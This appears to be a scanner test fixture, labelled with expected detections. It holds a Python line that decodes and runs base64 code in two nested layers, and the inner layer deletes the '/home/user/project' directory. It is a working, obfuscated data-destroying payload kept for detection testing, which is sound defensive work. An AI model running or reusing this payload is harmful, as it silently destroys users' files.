# expect: fs-destroy,dynamic-eval
# source: PyArmor-lite loaders seen on PyPI
# technique: exec of base64 code that itself exec's base64 code
import base64

exec(base64.b64decode("aW1wb3J0IGJhc2U2NDsgZXhlYyhiYXNlNjQuYjY0ZGVjb2RlKCdhVzF3YjNKMElITm9kWFJwYkRzZ2MyaDFkR2xzTG5KdGRISmxaU2duTDJodmJXVXZkWE5sY2k5d2NtOXFaV04wSnlrPScpKQ=="))
